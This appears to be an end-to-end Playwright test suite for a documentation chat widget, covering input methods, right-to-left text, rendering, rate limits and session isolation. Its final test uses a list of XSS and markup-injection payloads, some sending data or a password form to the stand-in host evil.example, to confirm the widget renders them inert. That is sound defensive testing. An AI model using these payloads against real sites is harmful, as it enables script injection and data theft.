"""What readers of other chats complained of, and what happens here: input methods, scripts, shared machines, limits."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from tests.e2e.reading import answer, ask, ask_and_wait, banner, history, hold_clock, in_history, sign_in, sign_up
from tests.e2e.sites import REPLY, axe

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

    from infra.local.platform import Platform
    from tests.e2e.sites import Site

URDU = "روبوٹ کو کیسے کیلیبریٹ کریں؟"
ENTER = """(field, [composing, code]) => {
    const key = { key: "Enter", isComposing: composing, keyCode: code };
    const how = { bubbles: true, cancelable: true, composed: true };
    return field.dispatchEvent(new KeyboardEvent("keydown", { ...key, ...how }));
}"""


def opened(site: Site, attributes: str = "") -> Page:
    page = site.open(attributes)
    page.locator("docs-chat .launcher").click()
    expect(page.get_by_label("Your question")).to_be_focused()
    return page


@pytest.mark.parametrize(("composing", "code"), [(True, 13), (False, 229)], ids=["most browsers", "Safari"])
def test_the_enter_that_confirms_a_word_of_an_input_method_sends_nothing(
    site: Site, code: int, *, composing: bool
) -> None:
    site.reply()
    page = opened(site)
    field = page.get_by_label("Your question")
    field.fill("設定")

    field.evaluate(ENTER, [composing, code])
    expect(field).to_have_value("設定")
    assert site.sent == []

    field.press("Enter")
    expect(answer(page)).to_be_visible()


def test_text_runs_in_the_direction_of_its_script(site: Site) -> None:
    site.reply(answer=f"{URDU}\n\n- {URDU}\n\n| {URDU} |\n|---|\n| abc |")
    page = opened(site)
    page.get_by_label("Your question").fill(URDU)
    assert page.get_by_label("Your question").evaluate("node => getComputedStyle(node).direction") == "rtl"
    ask_and_wait(page, URDU)

    for place in (".question p", ".text p", ".text ul", "th", "docs-chat h2"):
        assert page.locator(place).last.evaluate("node => getComputedStyle(node).direction") == "rtl", place
    assert page.locator("td").evaluate("node => getComputedStyle(node).direction") == "ltr"


def test_a_table_is_a_table_and_keeps_its_head(site: Site) -> None:
    site.reply(answer="| Lab | Cost |\n|:---|---:|\n| hybrid | `$56,000` [1] |\n| own \\| rented | $150,000 |")
    page = opened(site)

    given = ask_and_wait(page, "How?")
    table = given.get_by_role("table")

    expect(given.get_by_role("group", name="Table: Lab, Cost")).to_have_attribute("tabindex", "0")
    expect(table.get_by_role("columnheader")).to_have_text(["Lab", "Cost"])
    expect(table.get_by_role("cell")).to_have_text(["hybrid", "$56,000 1", "own | rented", "$150,000"])


def test_steps_keep_their_numbers_and_what_is_inside_them(site: Site) -> None:
    site.reply(answer="3. Third:\n\n   ```sh\n   make run\n   ```\n\n   - inner\n4. Fourth")
    page = opened(site)

    steps = ask_and_wait(page, "How?").locator(".text > ol > li")

    expect(steps).to_have_count(2)
    expect(steps.first).to_have_attribute("value", "3")
    expect(steps.first.locator("pre")).to_have_text("make run")
    expect(steps.first.locator("ul > li")).to_have_text("inner")


def test_code_and_answers_are_copied_by_a_button(site: Site) -> None:
    site.reply(answer="Run [1]\n\n```sh\nmake run\n```")
    site.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = opened(site)
    given = ask_and_wait(page, "How?")
    hold_clock(page)

    given.get_by_role("button", name="Copy code").click()
    expect(given.get_by_text("Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == "make run"
    given.get_by_role("button", name="Copy answer").click()
    expect(given.get_by_text("Copied")).to_have_count(2)
    assert page.evaluate("navigator.clipboard.readText()").startswith("Run [1]")


def test_a_limit_counts_down_and_then_lets_the_reader_ask(site: Site) -> None:
    page = opened(site)
    hold_clock(page)
    site.reply(429, {"retry-after": "30"}, message="Too many requests.", code="too_many_requests")
    ask(page, "How?")
    expect(page.get_by_text("You can ask again in 30 s.")).to_be_visible()
    page.clock.run_for(20_000)
    expect(page.get_by_text("You can ask again in 10 s.")).to_be_visible()
    expect(page.get_by_label("Your question")).to_have_value("How?")

    site.reply()
    page.get_by_label("Your question").press("Enter")
    assert len(site.sent) == 1
    page.clock.run_for(11_000)
    expect(page.get_by_text("You can ask again")).to_have_count(0)
    page.get_by_role("button", name="Ask", exact=True).click()
    page.clock.run_for(1_000)
    expect(answer(page)).to_be_visible()


def test_another_reader_on_the_same_machine_sees_nothing_of_the_last_one(page: Page, book: str) -> None:
    del book
    first = sign_up(page, "Ada Lovelace")
    ask_and_wait(page)
    expect(in_history(page)).to_be_visible()
    page.get_by_label("Your question").fill("What I did not send")
    page.request.post("/api/auth/sign-out", data={}, headers={"origin": page.url.rstrip("/")})

    page.get_by_label("Your question").fill("And the lid?")
    page.keyboard.press("Enter")
    expect(banner(page)).to_contain_text("Your session has ended")
    page.get_by_role("dialog").or_(page.get_by_role("button", name="Sign in", exact=True)).first.wait_for()
    page.reload()
    expect(page.get_by_role("article")).to_have_count(0)
    expect(page.get_by_label("Your question")).to_have_value("")
    # its address still names the conversation of the first one, who could sign in again
    expect(page.get_by_role("dialog", name="Sign in")).to_be_visible()
    page.keyboard.press("Escape")
    sign_up(page, "Grace Hopper")

    expect(page.get_by_text("Nothing here yet")).to_be_visible()
    expect(page.get_by_role("article")).to_have_count(0)
    kept = page.evaluate("JSON.stringify([{...sessionStorage}, {...localStorage}])")
    assert "Brindlewood" not in kept
    assert first not in kept


def test_two_profiles_of_one_reader_have_the_same_history_and_a_third_has_none(
    browser: Browser, platform: Platform, page: Page, book: str
) -> None:
    del book
    email = sign_up(page)
    ask_and_wait(page)
    expect(in_history(page)).to_be_visible()
    elsewhere, stranger = (browser.new_context(base_url=platform.url("http")) for _ in range(2))
    try:
        other = elsewhere.new_page()
        other.goto("/")
        other.get_by_role("button", name="Sign in", exact=True).click()
        sign_in(other, email)
        expect(in_history(other)).to_be_visible()
        number = in_history(other).get_attribute("data-id")

        third = stranger.new_page()
        third.goto("/")
        sign_up(third, "Grace Hopper")
        third.goto("about:blank")
        third.goto(f"/#chat={number}")
        expect(banner(third)).to_contain_text("This conversation is not there any more.")
        expect(third.get_by_role("article")).to_have_count(0)
    finally:
        elsewhere.close()
        stranger.close()


def test_a_cookie_that_was_lost_is_a_session_that_has_ended_and_no_outage(page: Page, book: str) -> None:
    del book
    sign_up(page)
    page.context.clear_cookies()

    ask_and_wait(page)

    expect(page.get_by_role("button", name="Sign in", exact=True)).to_be_visible()
    expect(banner(page)).to_contain_text("Your session has ended: this answer is not saved.")
    expect(answer(page)).to_be_visible()


def test_signing_out_in_one_tab_empties_the_others(page: Page, book: str) -> None:
    del book
    sign_up(page)
    ask_and_wait(page)
    other = page.context.new_page()
    other.goto("/")
    expect(in_history(other)).to_be_visible()
    in_history(other).click()
    expect(answer(other)).to_be_visible()

    page.get_by_role("button", name="Account of").click()
    page.get_by_role("button", name="Sign out", exact=True).click()

    expect(other.get_by_role("button", name="Sign in", exact=True)).to_be_visible()
    expect(other.get_by_role("article")).to_have_count(0)
    expect(history(other)).to_have_count(0)


def test_a_forgotten_password_is_replaced_by_the_link_in_the_mail(page: Page, platform: Platform) -> None:
    email = sign_up(page)
    page.context.clear_cookies()
    page.reload()
    page.get_by_role("button", name="Sign in", exact=True).click()
    page.get_by_role("button", name="Forgot your password?").click()
    form = page.get_by_role("dialog", name="Forgot your password?")
    form.get_by_label("Email address").fill(email)
    form.get_by_role("button", name="Send a link").click()
    expect(form.get_by_role("alert")).to_contain_text("a link is on its way")

    page.goto(link_in_the_mail(platform, email))

    form = page.get_by_role("dialog", name="Choose a new password")
    form.get_by_label("New password", exact=True).fill("another horse battery")
    form.get_by_role("button", name="Done").click()
    expect(page.get_by_role("alert")).to_contain_text("Your password was changed.")
    assert "token" not in page.url
    sign_in(page, email, "another horse battery")
    expect(page.get_by_role("button", name="Account of Ada Lovelace")).to_be_visible()


def link_in_the_mail(platform: Platform, email: str) -> str:
    """Of the newest mail to somebody, in the folder where local mail lands."""
    folder = platform.state.folder / "mail"
    mails = [path.read_text("utf-8") for path in sorted(folder.iterdir(), key=lambda path: path.stat().st_mtime)]
    text = next(mail for mail in reversed(mails) if email in mail).replace("=\n", "").replace("=3D", "=")
    found = re.search(r"http://\S+/reset-password/\S+", text)
    assert found is not None, text
    return found[0]


INJECTIONS = [
    "<script>document.title='taken'</script>",
    "<img src=x onerror=document.title='taken'>",
    "[link](javascript:document.title='taken')",
    "[link](data:text/html,<script>1</script>)",
    "![](https://evil.example/pixel.png)",
    "![x](https://evil.example/pixel.png?q=secret)",
    "<style>*{display:none}</style>",
    "**<svg onload=document.title='taken'>**",
    "`<iframe srcdoc=x>`",
    "| <b onclick=x>a</b> |\n|---|\n| <a href=javascript:x>b</a> |",
    "> <form action=https://evil.example><input name=password>",
    '[x](https://example.com/"onmouseover="x)',
    "<a href='https://evil.example' target=_top>click</a>",
    "```html\n</code></pre><script>document.title='taken'</script>\n```",
    "{{constructor.constructor('x')()}} ${document.title='taken'}",
    "\u202eevil\u202c <base href=https://evil.example>",
]


def test_whatever_an_answer_or_a_source_contains_is_text(site: Site) -> None:
    page = opened(site)
    outside: list[str] = []
    page.on("request", lambda request: outside.append(request.url) if "evil.example" in request.url else None)
    for number, text in enumerate(INJECTIONS, 1):
        source = {"n": 1, "title": text, "url": "javascript:document.title='taken'", "snippet": text}
        site.reply(answer=text, sources=[source], followUps=[text])
        given = ask_and_wait(page, text)
        foreign = given.locator("script, img, style, iframe, form, svg[onload], base, b, input, [onclick], [onerror]")
        expect(foreign).to_have_count(0)
        links = given.locator("a").evaluate_all("all => all.map((each) => each.protocol)")
        assert set(links) <= {"http:", "https:"}, text
        expect(page.locator("article .after")).to_have_count(number)

    assert page.title() == "Kettles"
    assert outside == []
    assert site.violations == []
    assert axe(page) == []
    assert REPLY["mode"] == "extractive"
